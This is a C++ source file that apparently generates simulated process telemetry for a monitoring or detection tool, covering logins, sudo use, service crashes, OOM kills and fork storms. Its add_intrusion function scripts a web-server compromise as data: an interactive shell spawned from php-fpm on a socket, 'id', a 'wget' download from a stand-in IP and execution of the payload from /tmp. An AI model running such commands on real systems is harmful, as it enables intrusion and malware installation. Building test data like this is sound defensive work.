// SPDX-License-Identifier: GPL-2.0-only
#include <csignal>

#include "fleet/activity.h"

namespace bpftrap::fleet {

namespace {

const Surroundings shop{"/system.slice/shop.service", 33};

// A login of this user: sshd, and a shell on a terminal.
struct Login {
  Login(Host& host, Time at, std::uint32_t uid)
      : around{"/user.slice/user-" + std::to_string(uid) + ".slice/session-" +
                   std::to_string(host.random().below(1000)) + ".scope",
               uid, uid, static_cast<std::uint32_t>(host.random().below(1000)), "pts0"},
        sshd(host.resident("sshd")),
        shell(host.fork(at, sshd, around)) {
    host.exec(at + ms, shell, sshd, around, {"/usr/bin/bash", {"-bash"}});
  }
  void end(Host& host, Time at) { host.end(at, shell, sshd, around, {0, 20 * ms}); }

  // sudo, and the program that it starts as root.
  void sudo(Host& host, Time at, const std::string& exe, std::vector<std::string> args) {
    std::vector<std::string> whole = args;
    whole.insert(whole.begin(), "sudo");
    Process sudo = host.fork(at, shell, around);
    host.exec(at + ms, sudo, shell, around, {"/usr/bin/sudo", whole, {}, {}, 0, true});
    Surroundings root = around;
    root.uid = 0;
    host.run(at + 20 * ms, second, sudo, root, {exe, std::move(args)});
    host.end(at + second + 30 * ms, sudo, shell, around);
  }

  Surroundings around;
  Process sshd;
  Process shell;
};

}  // namespace

void add_restarts(Host& host, Span span, int before, int after) {
  Process systemd = host.init();
  for (int i = 0; i < before + after; ++i) {
    Time week = i < before ? span.end - 14 * day : span.end - 7 * day;
    int in_week = i < before ? i : i - before;
    Time at = week + hour + in_week * (7 * day / (i < before ? before : after));
    End end;
    end.wait_status = i % 3 == 0 ? SIGSEGV | 0x80 : 1 << 8;
    end.cpu = 3 * second;
    host.run(at, hour, systemd, shop, {"/usr/bin/shopd", {"/usr/bin/shopd", "--port", "8080"}},
             end);
  }
}

void add_logins(Host& host, Span span) {
  int number = 0;
  for (Time at = span.begin + 9 * hour; at < span.end - hour; at += 17 * hour) {
    Login login(host, at, number % 3 == 0 ? 1001 : 1000);
    host.run(at + minute, 5 * ms, login.shell, login.around,
             {"/usr/bin/journalctl", {"journalctl", "-n", "50"}});
    if (number % 2 == 0) {
      login.sudo(host, at + 2 * minute, "/usr/bin/systemctl", {"systemctl", "restart", "nginx"});
    }
    if (number % 5 == 0) {
      login.sudo(host, at + 3 * minute, "/usr/bin/apt-get", {"apt-get", "upgrade"});
    }
    login.end(host, at + 20 * minute);
    ++number;
  }
}

void add_killings(Host& host, Time at) {
  Process systemd = host.init();
  Login login(host, at, 1000);
  Process deploy = host.fork(at + minute, login.shell, login.around);
  host.exec(at + minute + ms, deploy, login.shell, login.around,
            {"/srv/deploy", {"/bin/bash", "/srv/deploy", "shop"}, "/usr/bin/bash", "/srv/deploy"});
  End by_deploy;
  by_deploy.wait_status = SIGTERM;
  by_deploy.killer = by_deploy.last_sender = deploy;
  by_deploy.last_signal = SIGTERM;
  host.run(at, minute + second, systemd, shop, {"/usr/bin/shopd", {"/usr/bin/shopd"}}, by_deploy);
  host.end(at + minute + 2 * second, deploy, login.shell, login.around);
  End impatient;
  impatient.wait_status = SIGKILL;
  impatient.killer = login.shell;
  for (int i = 0; i < 3; ++i) {
    host.run(at + minute, 2 * minute + i * second, systemd, shop,
             {"/usr/bin/shop-worker", {"shop-worker", std::to_string(i)}}, impatient);
  }
  login.end(host, at + 10 * minute);
}

void add_out_of_memory(Host& host, Role role, Time at) {
  Process parent = host.resident(role == Role::database ? "postgres" : "scheduler");
  Surroundings around{role == Role::database
                          ? "/system.slice/postgresql.service"
                          : "/system.slice/docker-" + std::string(64, 'b') + ".scope",
                      role == Role::database ? 105U : 0U};
  End end;
  end.wait_status = SIGKILL;
  end.out_of_memory = true;
  end.memory_pages = role == Role::database ? 1'048'576 : 131'072;
  int count = role == Role::database ? 2 : 5;
  for (int i = 0; i < count; ++i) {
    host.run(at + i * 7 * hour, 40 * second, parent, around,
             role == Role::database
                 ? Command{"/usr/lib/postgresql/15/bin/postgres", {"postgres: shop"}}
                 : Command{"/usr/bin/python3.11", {"python3", "/srv/report.py", "--yearly"}},
             end);
  }
}

void add_intrusion(Host& host, Time at) {
  Surroundings web{"/system.slice/php8.2-fpm.service", 33};
  Process fpm = host.resident("php-fpm8.2");
  Process shell = host.fork(at, fpm, web);
  Command command{"/usr/bin/dash", {"/bin/sh", "-i"}, {}, "/bin/sh"};
  command.in_socket = 84'213;
  host.exec(at + ms, shell, fpm, web, command);
  host.run(at + 20 * second, 4 * ms, shell, web, {"/usr/bin/id", {"id"}});
  host.run(at + 40 * second, 300 * ms, shell, web,
           {"/usr/bin/wget", {"wget", "-q", "http://192.0.2.7/m"}});
  host.run(at + minute, 40 * minute, shell, web, {"/tmp/m", {"./m", "-t", "2"}},
           {SIGTERM, 30 * minute});
  host.end(at + hour, shell, fpm, web);
}

void add_fork_storm(Host& host, Time at, int children) {
  Process cron = host.resident("cron");
  Surroundings around{"/system.slice/cron.service", 0};
  Process script = host.fork(at, cron, around);
  host.exec(at + ms, script, cron, around,
            {"/etc/cron.daily/inventory",
             {"/bin/bash", "/etc/cron.daily/inventory"},
             "/usr/bin/bash",
             "/etc/cron.daily/inventory"});
  for (int i = 0; i < children; ++i) {
    host.run(at + (i + 1) * 5 * ms, 3 * ms, script, around,
             {"/usr/bin/grep", {"grep", "-c", "line " + std::to_string(i)}},
             {i % 9 == 0 ? 1 << 8 : 0});
  }
  host.end(at + (children + 2) * 5 * ms, script, cron, around);
}

}  // namespace bpftrap::fleet
